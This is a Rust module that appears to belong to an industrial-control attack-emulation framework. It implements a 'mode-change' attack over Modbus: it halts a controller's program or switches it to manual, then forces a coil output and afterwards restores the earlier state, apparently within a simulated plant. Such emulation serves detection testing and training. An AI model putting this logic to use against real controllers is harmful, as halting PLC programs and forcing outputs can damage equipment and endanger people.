//! Mode change: a controller is taken out of automatic, by its mode register or by its vendor's function,
//! and while its program does not interfere an output is switched.

use super::{Attack, Needs, technique};
use crate::net::reach::vendor;
use crate::plant::Target;
use crate::plant::points::{Part, Table};
use crate::repair::Before;
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "mode-change",
    about: "takes controllers out of automatic and switches an output by hand",
    technique: technique("T0858"),
    acceptable: &["T0836", "T0855", "T1692.001", "T0821"],
    grade: "A",
    kind: "fast",
    proto: "modbus",
    variants: &["register", "vendor"],
    needs: Needs::Sockets,
    seconds: [650, 95, 13],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let mut before = Before::default();
    let outcome = change(&mut stage, &mut before).await;
    before.restored(&mut stage, 240.0);
    outcome
}

async fn change(stage: &mut Stage, before: &mut Before) -> Outcome {
    let intruder = stage.stranger();
    let most = stage.by(2, 3, 4);
    for mode in stage.some(most, |target| target.point.part == Part::Mode && target.point.writable()) {
        let output = |target: &Target| {
            (target.device, target.unit) == (mode.device, mode.unit)
                && target.point.part == Part::Command
                && target.point.table == Table::Coil
        };
        let output = stage.some(1, output).pop();
        let at = stage.at(&mode);
        let mut master = intruder.reach(at);
        let session = 0x40 | stage.rng.below(0x3f) as u8;
        if stage.is("vendor") {
            master.vendor(0, vendor::HELLO, &[0]).await?;
            master.vendor(0, vendor::ABOUT, &[]).await?;
            master.vendor(0, vendor::RESERVE, vendor::WHO).await?;
            stage.pause(stage.by(15.0, 1.0, 0.1)).await;
            master.vendor(session, vendor::STOP, vendor::NOW).await?;
            stage.changed(format!("{at} program halted"));
        } else {
            let found = before.look(stage, &mut master, &mode).await?;
            stage.pause(stage.by(15.0, 1.0, 0.1)).await;
            // Manual where it is automatic, off where it is manual already.
            let value = if found.is_some_and(|found| found < 1.5) { 0.0 } else { 1.0 };
            master.put(&mode, value).await?;
            stage.wrote(&mode, value);
        }
        stage.pause(stage.by(30.0, 3.0, 0.3)).await;
        if let Some(output) = output {
            let found = before.look(stage, &mut master, &output).await?;
            let value = f64::from(found.is_none_or(|found| found < 0.5));
            master.put(&output, value).await?;
            stage.wrote(&output, value);
        }
        stage.pause(stage.by(240.0, 20.0, 2.0)).await;
        if stage.is("vendor") {
            master.vendor(session, vendor::START, vendor::NOW).await?;
            master.vendor(session, vendor::RELEASE, &[]).await?;
        }
        master.hang_up();
        stage.pause(stage.by(90.0, 10.0, 1.0)).await;
    }
    Ok(())
}
